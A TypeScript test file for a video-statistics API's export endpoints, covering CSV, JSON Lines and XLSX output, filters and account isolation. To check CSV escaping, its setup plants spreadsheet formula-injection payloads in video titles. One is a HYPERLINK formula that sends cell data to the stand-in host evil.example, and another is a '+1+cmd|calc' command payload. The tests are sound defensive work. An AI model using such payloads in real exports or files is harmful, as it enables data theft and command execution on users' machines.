// GET /api/v1/exports/snapshots and /exports/videos: every row checked against the database, in each format,
// with the filters, and the CSV safe to open in a spreadsheet.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestClock } from '../../src/clock.ts';
import { createTestApi, type TestApi } from '../support/api.ts';
import { csvObjects, parseCsv } from '../support/csv.ts';
import { createTestEngine, scriptedCollector } from '../support/engine.ts';
import { DIALECTS } from '../support/stores.ts';

const HOUR = 3_600_000;
const START = Date.parse('2024-01-29T10:00:00.000Z');
const METRICS = ['views', 'likes', 'comments', 'shares', 'saves'] as const;
const iso = (ms: number) => new Date(ms).toISOString();

const SNAPSHOT_HEADER = [
  'video_id',
  'video_link',
  'platform',
  'title',
  'creator',
  'tags',
  'snapshot_id',
  'slot',
  'snapshot_time',
  ...METRICS,
  ...METRICS.map((m) => `${m}_delta`),
  'provider',
  'approximate',
];

interface DbSnapshot {
  video_id: string;
  job_id: string;
  slot: number;
  taken_at: number;
  platform: string;
  title: string | null;
  creator: string | null;
  video_link: string;
  provider: string | null;
  views: string | null;
  likes: string | null;
  comments: string | null;
  shares: string | null;
  saves: string | null;
}

describe.each(DIALECTS)('account-wide exports (%s)', (dialect) => {
  let api: TestApi;
  let key: string;
  let liveKey: string;
  let otherKey: string;
  const ids: Record<string, string> = {};

  const get = (path: string, k = key) => api.call('GET', path, { key: k });

  /** The collected snapshots of the test-mode videos of the caller, from the database, in export order. */
  async function databaseSnapshots(videoIds: string[]): Promise<DbSnapshot[]> {
    const rows = await api.store.db
      .selectFrom('snapshots')
      .innerJoin('videos', 'videos.video_key', 'snapshots.video_key')
      .innerJoin('snapshot_sources', 'snapshot_sources.code', 'snapshots.source')
      .select([
        'videos.id as video_id',
        'videos.job_id',
        'snapshots.slot',
        'snapshots.taken_at',
        'videos.platform',
        'videos.title',
        'videos.creator',
        'videos.video_link',
        'snapshot_sources.provider',
      ])
      .select((eb) => METRICS.map((m) => eb.cast<string | null>(eb.ref(`snapshots.${m}`), 'text').as(m)))
      .where('videos.id', 'in', videoIds)
      .orderBy('videos.id')
      .orderBy('snapshots.slot')
      .execute();
    return rows.map((r) => ({ ...r, taken_at: Number(r.taken_at) })) as DbSnapshot[];
  }

  beforeAll(async () => {
    const clock = new TestClock(START);
    const script = scriptedCollector('tiktok', clock);
    api = await createTestApi(dialect, { clock, liveCollectors: { tiktok: script.collector } });
    const account = await api.createAccount({ creditUsd: 10 });
    key = account.testKey;
    liveKey = account.liveKey;
    otherKey = (await api.createAccount()).testKey;
    const track = async (k: string, link: string, tags: string[] = []) => {
      const response = await api.call('POST', '/api/v1/videos/track', {
        key: k,
        body: { video_link: link, duration_days: 1, tags },
      });
      expect(response.statusCode).toBe(201);
      return response.json().id as string;
    };
    ids.tiktokA = await track(key, 'https://www.tiktok.com/@a/video/7300000000000000017', ['Spring Launch']);
    clock.advance(1_000);
    ids.youtube = await track(key, 'https://www.youtube.com/watch?v=dQw4w9WgXcQ', [
      'spring launch',
      'Week 1',
    ]);
    clock.advance(1_000);
    ids.tiktokB = await track(key, 'https://www.tiktok.com/@b/video/7300000000000000027');
    ids.live = await track(liveKey, 'https://www.tiktok.com/@l/video/7300000000000000037', ['Spring Launch']);
    ids.other = await track(otherKey, 'https://www.tiktok.com/@o/video/7300000000000000047', [
      'Spring Launch',
    ]);
    const engine = createTestEngine(api);
    for (const hour of [1, 2, 3]) {
      clock.set(START + hour * HOUR + 5_000);
      await engine.runDue();
    }
    // Titles and creators are the platform's words: some start like spreadsheet formulas.
    await api.store.db
      .updateTable('videos')
      .set({ title: '=HYPERLINK("http://evil.example/?x="&A1,"open")', creator: '@SUM(A1:A9)' })
      .where('id', '=', ids.tiktokA!)
      .execute();
    await api.store.db
      .updateTable('videos')
      .set({ title: '+1+cmd|calc', creator: '-2+3, "quoted"\nline' })
      .where('id', '=', ids.tiktokB!)
      .execute();
    await api.store.db
      .updateTable('videos')
      .set({ title: '\tTabbed' })
      .where('id', '=', ids.youtube!)
      .execute();
  });
  afterAll(() => api.close());

  const mine = () => [ids.tiktokA!, ids.youtube!, ids.tiktokB!];

  it('exports every collected snapshot of the key’s world as CSV, each row as the database has it', async () => {
    const response = await get('/api/v1/exports/snapshots');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="contentstats-snapshots-${iso(api.clock.now()).slice(0, 10)}.csv"`,
    );
    expect(parseCsv(response.body)[0]).toEqual(SNAPSHOT_HEADER);
    const rows = csvObjects(response.body);
    const expected = await databaseSnapshots(mine());
    expect(expected).toHaveLength(12);
    // The live video and the other account's are not in a test key's export.
    expect(new Set(rows.map((r) => r.video_id))).toEqual(new Set(mine()));
    const byKey = new Map(rows.map((r) => [`${r.video_id}/${r.slot}`, r]));
    expect(byKey.size).toBe(expected.length);
    for (const [i, db] of expected.entries()) {
      const row = byKey.get(`${db.video_id}/${db.slot}`)!;
      const before = expected[i - 1]?.video_id === db.video_id ? expected[i - 1] : undefined;
      expect(row.snapshot_id).toBe(`${db.job_id}-${db.slot}`);
      expect(row.snapshot_time).toBe(iso(db.taken_at));
      expect(row.platform).toBe(db.platform);
      expect(row.video_link).toBe(db.video_link);
      expect(row.provider).toBe(db.provider);
      expect(row.tags).toBe(
        { [ids.tiktokA!]: 'Spring Launch', [ids.youtube!]: 'spring launch, Week 1' }[db.video_id] ?? '',
      );
      for (const m of METRICS) {
        expect(row[m]).toBe(db[m] ?? '');
        const delta =
          before && db[m] !== null && before[m] !== null
            ? (BigInt(db[m]!) - BigInt(before[m]!)).toString()
            : '';
        expect(row[`${m}_delta`]).toBe(delta);
      }
    }
    // Rows come video by video, each video's oldest first.
    const order = rows.map((r) => `${r.video_id}/${r.slot!.padStart(3, '0')}`);
    expect(order).toEqual([...order].sort());
  });

  it('prefixes every cell a spreadsheet would read as a formula with a single quote, numbers aside', async () => {
    const rows = csvObjects((await get('/api/v1/exports/snapshots')).body);
    const row = (id: string) => rows.find((r) => r.video_id === id)!;
    expect(row(ids.tiktokA!).title).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"open")`);
    expect(row(ids.tiktokA!).creator).toBe("'@SUM(A1:A9)");
    expect(row(ids.tiktokB!).title).toBe("'+1+cmd|calc");
    expect(row(ids.tiktokB!).creator).toBe(`'-2+3, "quoted"\nline`);
    expect(row(ids.youtube!).title).toBe("'\tTabbed");
    // No cell of the file starts a formula; negative numbers (deltas) stay numbers.
    for (const record of parseCsv((await get('/api/v1/exports/snapshots')).body)) {
      for (const cell of record) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+$/);
      }
    }
  });

  it('filters by platform and status, and by since (inclusive) and until (exclusive) on snapshot times', async () => {
    const youtube = csvObjects((await get('/api/v1/exports/snapshots?platform=youtube')).body);
    expect(new Set(youtube.map((r) => r.video_id))).toEqual(new Set([ids.youtube]));
    expect(youtube).toHaveLength(4);
    const stopped = await api.call('POST', `/api/v1/videos/${ids.tiktokB}/stop`, { key });
    expect(stopped.statusCode).toBe(200);
    const completed = csvObjects((await get('/api/v1/exports/snapshots?status=completed')).body);
    expect(new Set(completed.map((r) => r.video_id))).toEqual(new Set([ids.tiktokB]));
    const none = await get('/api/v1/exports/snapshots?status=paused&platform=tiktok');
    expect(parseCsv(none.body)).toEqual([SNAPSHOT_HEADER]);

    const since = iso(START + HOUR);
    const until = iso(START + 3 * HOUR);
    const window = csvObjects(
      (await get(`/api/v1/exports/snapshots?since=${since}&until=${until}&platform=youtube`)).body,
    );
    expect(window.map((r) => r.slot)).toEqual(['1', '2']);
    // The window's first row still grows from the snapshot before the window.
    const all = csvObjects((await get('/api/v1/exports/snapshots?platform=youtube')).body);
    expect(window[0]).toEqual(all[1]);
    expect(window[0]!.views_delta).not.toBe('');
  });

  it('filters by tag, case-insensitively; repeated tags select the videos carrying them all', async () => {
    const videoIds = async (query: string) =>
      csvObjects((await get(`/api/v1/exports/videos?${query}`)).body).map((r) => r.video_id);
    expect(await videoIds('tag=SPRING%20LAUNCH')).toEqual([ids.tiktokA, ids.youtube]);
    expect(await videoIds('tag=spring%20launch&tag=week%201')).toEqual([ids.youtube]);
    expect(await videoIds('tag=nothing')).toEqual([]);
    expect(await videoIds('tag=spring%20launch&platform=tiktok')).toEqual([ids.tiktokA]);
    const snapshots = csvObjects((await get('/api/v1/exports/snapshots?tag=Week%201')).body);
    expect(new Set(snapshots.map((r) => r.video_id))).toEqual(new Set([ids.youtube]));
    expect(snapshots).toHaveLength(4);
    const tooLong = await get(`/api/v1/exports/videos?tag=${'x'.repeat(65)}`);
    expect([tooLong.statusCode, tooLong.json().details[0].field]).toEqual([400, 'tag[0]']);
  });

  it('writes the same rows as JSON Lines, counts as exact strings and tags as a list', async () => {
    const response = await get('/api/v1/exports/snapshots?format=jsonl');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = response.body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    const csv = csvObjects((await get('/api/v1/exports/snapshots')).body);
    expect(lines).toHaveLength(csv.length);
    for (const [i, line] of lines.entries()) {
      expect(Object.keys(line)).toEqual(SNAPSHOT_HEADER);
      expect(line.tags).toEqual(
        { [ids.tiktokA!]: ['Spring Launch'], [ids.youtube!]: ['spring launch', 'Week 1'] }[line.video_id] ??
          [],
      );
      expect(line.slot).toBe(Number(csv[i]!.slot));
      expect(line.views).toBe(csv[i]!.views);
      expect(line.views_delta).toBe(csv[i]!.views_delta === '' ? null : csv[i]!.views_delta);
      // JSON needs no spreadsheet escaping: the title is the platform's, as it is.
      if (line.video_id === ids.tiktokA) expect(line.title).toMatch(/^=HYPERLINK/);
    }
  });

  it('writes an XLSX workbook that exceljs reads back: the same rows, counts as numbers', async () => {
    const response = await get('/api/v1/exports/snapshots?format=xlsx');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet('snapshots')!;
    const values = sheet.getSheetValues().filter(Boolean) as unknown[][];
    expect(values[0]!.slice(1)).toEqual(SNAPSHOT_HEADER);
    const csv = csvObjects((await get('/api/v1/exports/snapshots')).body);
    expect(values).toHaveLength(csv.length + 1);
    for (const [i, row] of values.slice(1).entries()) {
      const cells = Object.fromEntries(SNAPSHOT_HEADER.map((name, c) => [name, row[c + 1]]));
      expect(cells.video_id).toBe(csv[i]!.video_id);
      expect(cells.views).toBe(Number(csv[i]!.views));
      expect((cells.snapshot_time as Date).toISOString()).toBe(csv[i]!.snapshot_time);
      // A string cell is never a formula in XLSX: the title is kept as it is.
      if (cells.video_id === ids.tiktokA) expect(cells.title).toMatch(/^=HYPERLINK/);
    }
  });

  it('exports one row per video: the newest counts and their growth since the first snapshot', async () => {
    const response = await get('/api/v1/exports/videos');
    expect(response.statusCode).toBe(200);
    const rows = csvObjects(response.body);
    expect(rows.map((r) => r.video_id)).toEqual(mine());
    const snapshots = await databaseSnapshots(mine());
    for (const row of rows) {
      const own = snapshots.filter((s) => s.video_id === row.video_id);
      const [first, newest] = [own[0]!, own.at(-1)!];
      expect(row.first_snapshot_time).toBe(iso(first.taken_at));
      expect(row.latest_snapshot_time).toBe(iso(newest.taken_at));
      expect(row.snapshots_collected).toBe(String(own.length));
      for (const m of METRICS) {
        expect(row[m]).toBe(newest[m] ?? '');
        expect(row[`${m}_growth`]).toBe(
          newest[m] === null || first[m] === null ? '' : (BigInt(newest[m]!) - BigInt(first[m]!)).toString(),
        );
      }
    }
    // since/until bound the snapshots the counts come from; a video with none there has empty counts.
    const late = csvObjects((await get(`/api/v1/exports/videos?since=${iso(START + 2 * HOUR)}`)).body);
    const youtube = late.find((r) => r.video_id === ids.youtube)!;
    const own = snapshots.filter((s) => s.video_id === ids.youtube);
    expect(youtube.first_snapshot_time).toBe(iso(own[2]!.taken_at));
    expect(youtube.views_growth).toBe((BigInt(own[3]!.views!) - BigInt(own[2]!.views!)).toString());
    const early = csvObjects((await get(`/api/v1/exports/videos?until=${iso(START - 1)}`)).body);
    expect(early.every((r) => r.views === '' && r.first_snapshot_time === '')).toBe(true);
    const jsonl = (await get('/api/v1/exports/videos?format=jsonl')).body.trimEnd().split('\n');
    expect(jsonl.map((l) => JSON.parse(l).video_id)).toEqual(mine());
  });

  it('filters by video_id: one video’s rows in every format, and with the other filters', async () => {
    const all = csvObjects((await get('/api/v1/exports/snapshots')).body);
    const response = await get(`/api/v1/exports/snapshots?video_id=${ids.youtube}`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="contentstats-snapshots-${ids.youtube}-${iso(api.clock.now()).slice(0, 10)}.csv"`,
    );
    const rows = csvObjects(response.body);
    expect(rows).toHaveLength(4);
    expect(rows).toEqual(all.filter((r) => r.video_id === ids.youtube));

    const xlsx = await get(`/api/v1/exports/snapshots?video_id=${ids.tiktokA}&format=xlsx`);
    expect(xlsx.headers['content-disposition']).toContain(`contentstats-snapshots-${ids.tiktokA}-`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ExcelJS.Buffer);
    const sheetRows = (
      workbook.getWorksheet('snapshots')!.getSheetValues().filter(Boolean) as unknown[][]
    ).slice(1);
    expect(sheetRows.map((row) => row[1])).toEqual(
      all.filter((r) => r.video_id === ids.tiktokA).map((r) => r.video_id),
    );
    expect(sheetRows).toHaveLength(4);

    const videos = csvObjects((await get(`/api/v1/exports/videos?video_id=${ids.tiktokB}`)).body);
    expect(videos.map((r) => r.video_id)).toEqual([ids.tiktokB]);
    // The filters add up: a video that does not carry the tag, or is on another platform, gives no rows.
    expect(
      csvObjects((await get(`/api/v1/exports/snapshots?video_id=${ids.tiktokB}&tag=Spring%20Launch`)).body),
    ).toEqual([]);
    expect(
      csvObjects((await get(`/api/v1/exports/videos?video_id=${ids.youtube}&platform=tiktok`)).body),
    ).toEqual([]);
    expect(
      csvObjects((await get(`/api/v1/exports/videos?video_id=${ids.youtube}&tag=week%201`)).body).map(
        (r) => r.video_id,
      ),
    ).toEqual([ids.youtube]);
  });

  it('answers a video_id that is malformed or not the caller’s (in the key’s mode) with 400 naming it', async () => {
    const fields = async (query: string, k = key) => {
      const response = await get(`/api/v1/exports/snapshots?${query}`, k);
      expect(response.statusCode).toBe(400);
      expect(response.headers['content-disposition']).toBeUndefined();
      return response
        .json()
        .details.map((d: { field: string; message: string }) => `${d.field}: ${d.message}`)
        .sort();
    };
    // Another account's video, the same account's live video under its test key, and one that does not exist.
    expect(await fields(`video_id=${ids.other}`)).toEqual(['video_id: No such video']);
    expect(await fields(`video_id=${ids.live}`)).toEqual(['video_id: No such video']);
    expect(await fields(`video_id=${ids.youtube}`, liveKey)).toEqual(['video_id: No such video']);
    expect(await fields('video_id=vid_doesnotexist')).toEqual(['video_id: No such video']);
    // Malformed: too long, a control character, given twice; named beside the other bad filters.
    expect(await fields(`video_id=${'v'.repeat(65)}`)).toEqual(['video_id: must be at most 64 characters']);
    expect((await fields('video_id=%00'))[0]).toMatch(/^video_id: /);
    expect((await fields(`video_id=${ids.youtube}&video_id=${ids.tiktokA}`))[0]).toMatch(/^video_id: /);
    expect(await fields(`video_id=${ids.other}&format=pdf`)).toEqual([
      'format: format must be one of csv, jsonl, xlsx',
      'video_id: No such video',
    ]);
    expect((await fields(`video_id=${ids.other}`)).length).toBe(1);
    const videos = await get(`/api/v1/exports/videos?video_id=${ids.other}`);
    expect([videos.statusCode, videos.json().details]).toEqual([
      400,
      [{ field: 'video_id', message: 'No such video' }],
    ]);
    // The live key exports its own video.
    expect(
      csvObjects((await get(`/api/v1/exports/videos?video_id=${ids.live}`, liveKey)).body).map(
        (r) => r.video_id,
      ),
    ).toEqual([ids.live]);
  });

  it('answers bad filters with 400 naming each, and no key with 401', async () => {
    const bad = await get('/api/v1/exports/snapshots?format=pdf&platform=vimeo&since=yesterday&status=gone');
    expect(bad.statusCode).toBe(400);
    expect(
      bad
        .json()
        .details.map((d: { field: string }) => d.field)
        .sort(),
    ).toEqual(['format', 'platform', 'since', 'status']);
    expect((await get('/api/v1/exports/videos?until=%00')).statusCode).toBe(400);
    const anonymous = await api.call('GET', '/api/v1/exports/videos');
    expect([anonymous.statusCode, anonymous.json()]).toEqual([401, { error: 'API key required' }]);
  });

  it('shows the live world to a live key, and nothing of another account', async () => {
    const live = csvObjects((await get('/api/v1/exports/videos', liveKey)).body);
    expect(live.map((r) => r.video_id)).toEqual([ids.live]);
    const other = csvObjects((await get('/api/v1/exports/snapshots', otherKey)).body);
    expect(new Set(other.map((r) => r.video_id))).toEqual(new Set([ids.other]));
  });
});
